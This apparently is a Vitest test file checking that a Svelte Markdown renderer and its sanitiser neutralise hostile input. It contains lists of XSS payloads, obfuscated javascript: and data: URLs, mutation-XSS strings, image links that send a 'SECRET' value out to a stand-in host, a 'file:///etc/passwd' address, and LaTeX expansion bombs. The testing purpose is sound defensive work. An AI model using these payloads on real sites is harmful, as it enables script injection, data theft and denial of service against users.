import { flushSync, mount, unmount } from 'svelte';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import Markdown from './Markdown.svelte';
import { draw } from './math';
import { sanitize } from './sanitize';

vi.hoisted(() => {
  // jsdom has no media; nobody here asked for less motion.
  window.matchMedia = () =>
    ({ matches: false, addEventListener: () => {}, removeEventListener: () => {} }) as never;
});

const HTML = [
  '<script>canary()</script>',
  '<img src=x onerror=canary()>',
  '<svg onload=canary()>',
  '<svg><animate onbegin=canary() attributeName=x></svg>',
  '<svg><a><animate attributeName=href values=javascript:canary() /><text>x</text></a></svg>',
  '<svg><set attributeName="href" to="javascript:canary()"/></svg>',
  '<details open ontoggle=canary()>x</details>',
  '<iframe srcdoc="<script>parent.canary()</script>"></iframe>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=canary()&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=canary()>',
  '<noscript><p title="</noscript><img src=x onerror=canary()>">',
  '<template><img src=x onerror=canary()></template>',
  '<button formaction="javascript:canary()">x</button>',
  '<form action="javascript:canary()"><input type=submit></form>',
  '<object data="javascript:canary()"></object>',
  '<embed src="javascript:canary()">',
  '<base href="http://canary.test/">',
  '<meta http-equiv=refresh content="0;url=http://canary.test/">',
  '<link rel=dns-prefetch href="//canary.test">',
  '<link rel=preconnect href="http://canary.test">',
  '<a href="java\nscript:canary()">x</a>',
  '<a href="java&#x09;script:canary()">x</a>',
  '<video poster="http://canary.test/p"></video>',
  '<audio src="http://canary.test/p"></audio>',
  '<picture><source srcset="http://canary.test/s"><img srcset="http://canary.test/s 2x"></picture>',
  '<input type=image src="http://canary.test/i">',
  '<div style="position:fixed;inset:0;background:url(http://canary.test/b)">x</div>',
  '<style>@import "http://canary.test/c"</style>',
  '<svg><image href="http://canary.test/i"/><use href="http://canary.test/u#x"/></svg>',
  '<p id="main" name="body">clobber</p>',
  '<x onclick=canary()>x</x>',
  '<!-- --!><img src=x onerror=canary()> -->',
  '<![CDATA[<img src=x onerror=canary()>]]>',
  '<?php <img src=x onerror=canary()> ?>',
];

const ADDRESSES = [
  'javascript:canary()',
  'JaVaScRiPt:canary()',
  'java\tscript:canary()',
  '&#106;avascript:canary()',
  'javascript&colon;canary()',
  'javascript&#58;canary()',
  '\u0001javascript:canary()',
  'data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=canary()>',
  'data:image/png;base64,iVBORw0KGgo=',
  'vbscript:canary()',
  'blob:http://canary.test/x',
  'file:///etc/passwd',
  '//canary.test/x',
  '/api/logout',
  '#main',
  'ftp://canary.test/x',
];

const FORMS = (address: string) => [
  `[x](${address})`,
  `[x](<${address}>)`,
  `![x](${address})`,
  `<${address}>`,
  `[x][1]\n\n[1]: ${address}`,
  `[x][1]\n\n[1]: <${address}>`,
  `![x][1]\n\n[1]: ${address}`,
  `note[^1]\n\n[^1]: ${address}`,
  address,
];

const IMAGES = [
  '![x](http://canary.test/?d=SECRET)',
  '![x][1]\n\n[1]: http://canary.test/?d=SECRET',
  '[![x](http://canary.test/a)](http://canary.test/b)',
];

const FORMULAS = [
  '$\\href{javascript:canary()}{x}$',
  '$\\url{javascript:canary()}$',
  '$\\htmlData{onclick=canary()}{x}$',
  '$\\htmlStyle{position:fixed}{x}$',
  '$\\includegraphics{http://canary.test/i}$',
];

const ELEMENTS =
  /^(p|br|strong|em|s|del|h[456]|blockquote|ul|ol|li|hr|pre|code|a|table|thead|tbody|tr|th|td|span|div|figure|figcaption|button|svg|path|rect|polyline|line|circle)$/;

const running: ReturnType<typeof mount>[] = [];
let called = 0;
Object.assign(window, { canary: () => called++ });

function show(text: string, isWriting = false) {
  const props = $state({ text, isWriting });
  const target = document.body.appendChild(document.createElement('main'));
  running.push(mount(Markdown, { target, props }));
  flushSync();
  return { target, props };
}

function clear() {
  for (const each of running.splice(0)) void unmount(each);
  document.body.replaceChildren();
}

// The clock stands still: here nothing is ever too slow to be shown.
beforeEach(() => void vi.useFakeTimers({ toFake: ['performance'] }));
afterEach(() => void vi.useRealTimers());
afterEach(clear);

function expectInert(root: Element, text: string) {
  for (const element of root.querySelectorAll('*')) {
    expect(element.localName, text).toMatch(ELEMENTS);
    for (const { name, value } of element.attributes) {
      expect(name, text).not.toMatch(
        /^(on|src|srcset|style|id$|name$|poster|action|formaction|data$|background|xlink)/i,
      );
      if (name === 'href') expect(value, text).toMatch(/^(https?:\/\/|mailto:)/);
    }
  }
  expect(called, text).toBe(0);
}

describe('text from elsewhere', () => {
  const texts = [...HTML, ...ADDRESSES.map((address) => FORMS(address).join('\n\n')), ...IMAGES, ...FORMULAS];

  it('is inert when it is shown whole', () => {
    for (const text of texts) {
      expectInert(show(text).target, text);
      clear();
    }
    const nested = texts.map((text) => `- a\n\n  > ${text}\n\n| x |\n|---|\n| ${text} |`).join('\n\n');
    expectInert(show(nested).target, 'nested');
  }, 3_600_000);

  it('is inert all along its arrival, and ends as if it had come at once', () => {
    for (const text of [...HTML, ...FORMS('javascript:canary()'), ...IMAGES, ...FORMULAS]) {
      const whole = show(text).target;
      const { target, props } = show('', true);
      for (let end = 1; end <= text.length + 2; end += 3) {
        props.text = text.slice(0, end);
        flushSync();
        expectInert(target, text.slice(0, end));
      }
      props.isWriting = false;
      flushSync();
      expect(target.isEqualNode(whole), `${text}: ${target.innerHTML}`).toBe(true);
      clear();
    }
  }, 3_600_000);

  it('stays readable where an address is refused', () => {
    for (const address of ['javascript:canary()', 'data:text/html,x', '//canary.test/x']) {
      expect(show(`[the words](${address})`).target.textContent).toContain('the words');
    }
  });

  it('names the host of an image instead of fetching it', () => {
    const { target } = show('![a chart](http://canary.test/?d=SECRET)');
    expect(target.querySelector('img')).toBeNull();
    expect(target.textContent.trim()).toBe('Image from canary.test: a chart');
  });

  it('shows raw markup as text', () => {
    expect(show('<b>bold</b>').target.textContent.trim()).toBe('<b>bold</b>');
  });
});

describe('the sanitiser', () => {
  it('has the last word even on markup the parser would never write', () => {
    for (const html of HTML) {
      const root = document.createElement('div');
      root.append(sanitize(html));
      expectInert(root, html);
    }
  });

  it('keeps only classes it knows, and opens every link apart', () => {
    const root = document.createElement('div');
    root.append(sanitize('<a class="math dialog hljs-x" href="https://e.org" target="_top">x</a>'));
    expect(root.innerHTML).toBe(
      '<a class="math hljs-x" href="https://e.org" target="_blank" rel="noopener noreferrer">x</a>',
    );
  });
});

describe('formulas', () => {
  it('are drawn without a single style attribute set as text', async () => {
    const set: string[] = [];
    const original = Element.prototype.setAttribute;
    Element.prototype.setAttribute = function (name: string, value: string) {
      set.push(name);
      original.call(this, name, value);
    };
    const drawn = await draw('\\frac{a}{b} + \\sqrt{x} + \\vec{v} + \\fbox{z} + \\overbrace{abc}', true);
    Element.prototype.setAttribute = original;
    expect(drawn?.querySelector('svg')).not.toBeNull();
    expect(set).not.toContain('style');
  });

  it.each([
    '\\href{javascript:canary()}{x}',
    '\\url{javascript:canary()}',
    '\\htmlData{a=b}{x}',
    '\\htmlClass{a}{x}',
    '\\htmlId{main}{x}',
    '\\includegraphics{http://canary.test/i}',
  ])('lead nowhere: %s', async (source) => {
    const drawn = await draw(source, false);
    expect(drawn?.querySelector('a, img, [href], [src], [id]') ?? null).toBeNull();
  });

  it.each([
    ['self-defining macros', '\\def\\a{\\a\\a}\\a'],
    ['edef growth', '\\edef\\a{x}' + '\\edef\\a{\\a\\a}'.repeat(100) + '\\a'],
    ['many braces', '{'.repeat(100_000) + 'x' + '}'.repeat(100_000)],
    ['deep braces', '{'.repeat(1_400) + 'x' + '}'.repeat(1_400)],
    ['deep fractions', '\\frac{1}{'.repeat(250) + 'x' + '}'.repeat(250)],
    ['deep roots', '\\sqrt{'.repeat(300) + 'x' + '}'.repeat(300)],
    ['ten megabytes of figures', '1'.repeat(10_000_000)],
    ['three thousand figures', '1'.repeat(3_000)],
  ])('are drawn or shown as typed, and come to an end: %s', async (_, source) => {
    const drawn = await draw(source, true);
    expect(drawn?.querySelector('script, iframe') ?? null).toBeNull();
  });
});
